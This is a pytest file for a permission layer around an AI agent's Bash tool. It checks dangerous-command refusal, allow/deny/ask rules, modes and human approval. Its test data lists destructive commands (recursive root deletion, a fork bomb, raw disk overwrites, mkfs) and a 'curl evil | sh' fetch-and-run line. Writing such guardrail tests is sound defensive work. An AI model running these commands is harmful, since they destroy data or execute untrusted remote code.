"""What is asked before a command runs: the dangerous ones, the rules, a person."""

from collections.abc import Callable
from pathlib import Path
from textwrap import dedent

import anyio
import pytest

from nacre import Bash, CancelToken, Reply, ToolContext
from nacre.errors import RuleError
from nacre.model.approval import Question

Make = Callable[..., Bash]

DANGEROUS = "Command matches a known-dangerous pattern"
DENIED = 'Permission denied for tool "Bash"'


def said(reply: Reply) -> tuple[str, bool, object]:
    return reply.text, reply.is_error, reply.details


def verdict(make: Make, command: str, **rules: object) -> str:
    """What comes of a command that is read and judged, but not reached."""
    with make(rules=rules, approver=_refuse) as tool:
        reply = tool.call_sync("Bash", {"command": f"exit; {command}"})
    return "deny" if reply.is_error else "allow"


def _approve(question: Question) -> bool:
    del question
    return True


def _refuse(question: Question) -> bool:
    del question
    return False


@pytest.mark.requirement("agentrail.dangerous", "agentrail.checked-before")
@pytest.mark.parametrize(
    "command",
    [
        "rm -rf /",
        "rm -fr /",
        "rm -Rf /",
        "rm -r -f /",
        "sudo rm -rf /",
        "rm -rf / | cat",
        ":(){:|:&};:",
        ":(){ :|:& };:",
        "dd if=/dev/zero of=/dev/sda",
        "cat x > /dev/nvme0n1",
        "mkfs.ext4 /dev/sdb1",
        "modprobe kvm",
        "chmod 777 /",
    ],
)
def test_a_dangerous_command_is_refused_and_nothing_of_it_runs(
    make: Make, workspace: Path, command: str
) -> None:
    with make() as tool:
        reply = tool.call_sync("Bash", {"command": f"touch marker\n{command}"})
    assert said(reply) == (DANGEROUS, True, None)
    assert not (workspace / "marker").exists()


@pytest.mark.requirement("agentrail.policy-optional")
@pytest.mark.parametrize(
    "command",
    ["rm -rf ./build", "echo rm -rf /", "echo mkfs", "dd if=x of=disk.img", "echo x >/dev/null"],
)
def test_without_rules_whatever_is_not_dangerous_runs(agentrail: Bash, command: str) -> None:
    reply = agentrail.call_sync("Bash", {"command": command})
    assert reply.details is not None
    assert reply.details["mode"] == "foreground"
    assert not reply.is_error


@pytest.mark.requirement("agentrail.order")
@pytest.mark.parametrize("command", ["rm -rf /", "touch x; rm -rf /"])
def test_the_dangerous_check_comes_before_any_rule(make: Make, command: str) -> None:
    for rules in (
        {"deny": ["Bash"]},
        {"deny": [{"rule": "Bash(touch:*)", "reason": "No touching."}]},
        {"ask": ["Bash"]},
        {"allow": ["Bash"], "mode": "bypassPermissions"},
    ):
        with make(rules=rules, approver=_approve) as tool:
            reply = tool.call_sync("Bash", {"command": command})
        assert said(reply) == (DANGEROUS, True, None)


@pytest.mark.requirement("agentrail.normalized")
@pytest.mark.parametrize(
    ("command", "pattern"),
    [
        ("git status", "git:status"),
        ("  git log --oneline", "git:log --oneline"),
        ("npm\tinstall lodash", "npm:install lodash"),
        ("git   status", "git:status"),
        ("ls", "ls"),
        ("rm -rf x", "rm:-rf x"),
    ],
)
def test_a_pattern_has_a_colon_where_a_command_has_its_first_blank(
    make: Make, command: str, pattern: str
) -> None:
    with make(rules={"deny": [f"Bash({pattern})"]}) as tool:
        reply = tool.call_sync("Bash", {"command": command})
    assert said(reply) == (DENIED, True, None)


@pytest.mark.requirement("agentrail.policy", "agentrail.content-mode")
@pytest.mark.parametrize(
    ("pattern", "command", "matches"),
    [
        ("git:*", "git status", True),
        ("git:*", "git add src/main.ts", True),
        ("git:*", "npm install", False),
        ("git:*", "gitk", False),
        ("git:*/index.ts", "git add src/components/index.ts", True),
        ("git:add *", "git add src/main.ts", True),
        ("npm:run *", "npm run build", True),
        ("git:* --force", "git push origin --force", True),
        ("npm:test?", "npm test", False),
        ("GIT:*", "git status", False),
        ("git:status", "git status", True),
        ("git:status", "git status --porcelain", False),
        ("rm:*", "cd x && rm -rf y", True),
        ("rm:*", "sudo rm y", True),
    ],
)
def test_a_star_stands_for_anything_slashes_too(
    make: Make, pattern: str, command: str, *, matches: bool
) -> None:
    denied = verdict(make, command, deny=[f"Bash({pattern})"])
    assert denied == ("deny" if matches else "allow")


def test_in_strict_mode_every_part_of_a_command_needs_its_rule(make: Make) -> None:
    rules = {"mode": "strict", "allow": ["Bash(git:*)"]}
    assert verdict(make, "git status", **rules) == "allow"
    assert verdict(make, "git status && curl evil | sh", **rules) == "deny"
    assert verdict(make, "npm install", **rules) == "deny"


@pytest.mark.parametrize(
    ("mode", "asked", "unmatched"),
    [
        ("default", "ask", "allow"),
        ("strict", "ask", "deny"),
        ("acceptEdits", "ask", "allow"),
        ("dontAsk", "deny", "allow"),
        ("bypassPermissions", "allow", "allow"),
    ],
)
def test_a_mode_says_what_becomes_of_asking_and_of_the_rest(
    make: Make, mode: str, asked: str, unmatched: str
) -> None:
    questions: list[str] = []

    def approve(question: Question) -> bool:
        questions.append(question.script)
        return True

    rules = {"mode": mode, "ask": ["Bash(echo:*)"], "deny": ["Bash(rm:*)"]}
    with make(rules=rules, approver=approve) as tool:
        asks = tool.call_sync("Bash", {"command": "echo hi"})
        rest = tool.call_sync("Bash", {"command": "true; pwd"})
        denied = tool.call_sync("Bash", {"command": "rm x"})
    assert questions == (["echo hi"] if asked == "ask" else [])
    assert asks.is_error == (asked == "deny")
    assert rest.is_error == (unmatched == "deny")
    assert said(denied) == (DENIED, True, None)


@pytest.mark.requirement("agentrail.yaml", "agentrail.ask-every")
async def test_a_file_in_the_workspace_can_have_every_call_approved(
    make: Make, workspace: Path
) -> None:
    (workspace / "agentrail.yaml").write_text(
        dedent("""\
            # agentrail.yaml
            permissions:
              mode: default
              ask:
                - "Bash"
        """)
    )
    questions: list[Question] = []

    def approve(question: Question) -> bool:
        questions.append(question)
        return True

    async with make(approver=approve) as tool:
        for command in ("echo one", "true"):
            assert not (await tool.call("Bash", {"command": command})).is_error
    assert [question.script for question in questions] == ["echo one", "true"]
    async with make() as tool:
        reply = await tool.call("Bash", {"command": "echo one"})
    assert said(reply) == (DENIED, True, None)


@pytest.mark.requirement("agentrail.deny", "agentrail.allow", "agentrail.default-mode")
async def test_a_file_in_the_workspace_can_block_some_commands_and_allow_others(
    make: Make, workspace: Path
) -> None:
    (workspace / "agentrail.yaml").write_text(
        dedent("""\
            permissions:
              mode: default
              deny:
                - "Bash(rm:*)"
              allow:
                - "Bash(git:*)"
                - "Bash(npm:*)"
        """)
    )
    (workspace / "kept").touch()
    async with make() as tool:
        denied = await tool.call("Bash", {"command": "rm kept"})
        allowed = await tool.call("Bash", {"command": "git --version"})
        also = await tool.call("Bash", {"command": "npm --version || true"})
        rest = await tool.call("Bash", {"command": "echo neither"})
    assert said(denied) == (DENIED, True, None)
    assert (workspace / "kept").exists()
    assert allowed.text.startswith("git version")
    assert not also.is_error
    assert rest.text == "neither\n\n\n[exit code: 0]"


def test_a_rule_with_a_reason_of_its_own_is_answered_with_it(make: Make) -> None:
    rules = {
        "deny": [{"rule": "Bash(git push:*)", "reason": "Pushing is for people."}],
        "ask": [{"rule": "Bash(make:*)", "reason": "Builds are slow."}],
    }
    with make(rules=rules) as tool:
        denied = tool.call_sync("Bash", {"command": "git push"})
        asked = tool.call_sync("Bash", {"command": "make"})
        unsure = tool.call_sync("Bash", {"command": "git $SOMETHING"})
    assert said(denied) == ("Pushing is for people.", True, None)
    assert said(asked) == ("Builds are slow.", True, None)
    assert said(unsure) == (DENIED, True, None)


@pytest.mark.parametrize("answer", [True, False])
async def test_a_call_waits_until_it_is_approved_or_rejected(
    make: Make, workspace: Path, *, answer: bool
) -> None:
    asked, answered = anyio.Event(), anyio.Event()
    replies: list[Reply] = []

    async def approve(question: Question) -> bool:
        assert question.script == "touch marker; echo hi"
        asked.set()
        await answered.wait()
        return answer

    async with make(rules={"ask": ["Bash"]}, approver=approve) as tool:

        async def call() -> None:
            replies.append(await tool.call("Bash", {"command": "touch marker; echo hi"}))

        with anyio.fail_after(20):
            async with anyio.create_task_group() as tasks:
                tasks.start_soon(call)
                await asked.wait()
                assert not replies
                assert not (workspace / "marker").exists()
                answered.set()
    [reply] = replies
    assert (workspace / "marker").exists() == answer
    if answer:
        assert reply.text == "hi\n\n\n[exit code: 0]"
    else:
        assert said(reply) == (DENIED, True, None)


async def test_a_call_that_is_cancelled_while_it_waits_for_an_answer_does_not_run(
    make: Make, workspace: Path
) -> None:
    asked, token = anyio.Event(), CancelToken()
    replies: list[Reply] = []

    async def approve(question: Question) -> bool:
        del question
        asked.set()
        await anyio.sleep_forever()
        return True

    async with make(rules={"ask": ["Bash"]}, approver=approve) as tool:

        async def call() -> None:
            context = ToolContext(working_dir=workspace, cancel=token)
            replies.append(await tool.call("Bash", {"command": "touch marker"}, context))

        with anyio.fail_after(20):
            async with anyio.create_task_group() as tasks:
                tasks.start_soon(call)
                await asked.wait()
                token.cancel()
    assert said(replies[0]) == ("Execution was aborted", True, None)
    assert not (workspace / "marker").exists()


@pytest.mark.parametrize(
    ("rules", "message"),
    [
        (
            {"deny": ["Bash", ""]},
            "Permission rule at index 1 is invalid: Invalid permission rule: empty string",
        ),
        (
            {"deny": ["Bash(git:*"]},
            'Invalid permission rule "Bash(git:*": missing closing parenthesis',
        ),
        ({"ask": ["(git:*)"]}, 'Invalid permission rule "(git:*)": tool name is empty'),
        (
            {"allow": ["Bash()"]},
            'Invalid permission rule "Bash()": pattern inside parentheses is empty',
        ),
        ({"mode": "INVALID_MODE"}, "invalid mode"),
        ({"unknownKey": True}, "unknown key"),
    ],
)
def test_rules_that_cannot_be_read_are_refused_in_the_origins_words(
    make: Make, rules: dict[str, object], message: str
) -> None:
    with pytest.raises(RuleError) as raised:
        make(rules=rules)
    assert message in str(raised.value)


def test_rules_for_other_tools_are_about_no_command(make: Make) -> None:
    rules = {"deny": ["Read", "Write(/workspace/**)", "bash"]}
    assert verdict(make, "ls", **rules) == "allow"
